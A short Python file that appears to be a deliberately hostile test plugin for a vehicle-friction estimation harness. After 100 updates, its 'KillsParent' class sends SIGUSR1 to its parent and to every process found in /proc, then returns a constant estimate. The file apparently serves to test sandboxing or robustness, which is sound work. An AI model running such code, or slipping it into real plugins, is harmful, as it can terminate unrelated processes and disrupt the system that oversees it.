"""It signals the process that started it, and everything it finds."""

import os
import signal


class KillsParent:
    name = "kills_parent"
    sensors = ("accel_x",)
    estimates = ("mu_front",)

    def reset(self, vehicle, dt):
        self.samples = 0

    def update(self, obs):
        self.samples += 1
        if self.samples == 100:
            for number in (os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
                if number not in (1, os.getpid()):
                    try:
                        os.kill(number, signal.SIGUSR1)
                    except OSError:
                        continue
        return {"mu_front": 0.5}
